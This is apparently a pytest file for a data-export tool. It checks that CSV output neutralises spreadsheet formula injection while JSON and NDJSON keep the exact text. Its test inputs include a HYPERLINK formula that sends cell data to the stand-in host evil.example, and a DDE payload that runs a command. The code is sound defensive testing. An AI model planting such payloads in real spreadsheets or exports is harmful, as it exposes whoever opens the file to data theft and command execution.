"""Issue 14 item 8: a cell that a spreadsheet would run as a formula is neutralised in
CSV only; JSON and NDJSON keep the exact text, and numbers stay numbers."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
from pathlib import Path

from iaextract.writers.formats import CsvWriter, JsonWriter

from ..support import run_cli, write_config

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\tTAB", "\r=1+1"]


def test_writers_neutralise_formulas_in_csv_only(tmp_path: Path) -> None:
    rows = [[text, -5, -2.5] for text in FORMULAS] + [["plain - text", 0, None]]
    for cls in (CsvWriter, JsonWriter):
        writer = cls(tmp_path / f"t.{cls.extension}", ["text", "count", "miles"])
        writer.write_rows(rows)
        writer.close()
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as handle:
        read = list(csv.reader(handle))[1:]
    assert [r[0] for r in read] == ["'" + t for t in FORMULAS] + ["plain - text"]
    assert {(r[1], r[2]) for r in read[:-1]} == {("-5", "-2.5")}  # numbers are numbers
    published = json.loads((tmp_path / "t.json").read_text(encoding="utf-8"))
    assert [r["text"] for r in published] == FORMULAS + ["plain - text"]


def test_export_of_a_hostile_source_opens_safely_in_a_spreadsheet(tmp_path: Path,
                                                                  demo_db: Path) -> None:
    database = tmp_path / "hostile.sqlite"
    shutil.copy(demo_db, database)
    with sqlite3.connect(database) as db:
        db.execute("UPDATE Incidents SET Synopsis = ?", ("=1+2 then " + FORMULAS[0],))
        db.execute("UPDATE Pursuits SET DurationMinutes = -5")
    config = write_config(tmp_path / "agency", database, policy='narratives = "scrub"')
    result = run_cli("export", "-c", str(config), "-d", "vehicle_pursuits",
                     "-d", "complaint_allegations")
    assert result.returncode == 0, result.stderr
    out = tmp_path / "agency" / "export"
    rows = _csv_rows(out / "vehicle_pursuits.csv")
    # A negative duration breaks the schema's minimum: blank and counted, never "'-5".
    assert rows and {r["duration_minutes"] for r in rows} == {""}
    rows += _csv_rows(out / "complaint_allegations.csv")
    assert {r["summary"][:4] for r in rows if "summary" in r} == {"'=1+"}
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    records = _ndjson(out / "complaint_allegations.ndjson")
    assert {r["summary"][:3] for r in records} == {"=1+"}
    assert {r["duration_minutes"] for r in _ndjson(out / "vehicle_pursuits.ndjson")} == {None}
    dictionary = (out / "DATA_DICTIONARY.md").read_text(encoding="utf-8")
    assert "apostrophe in front" in dictionary


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _ndjson(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
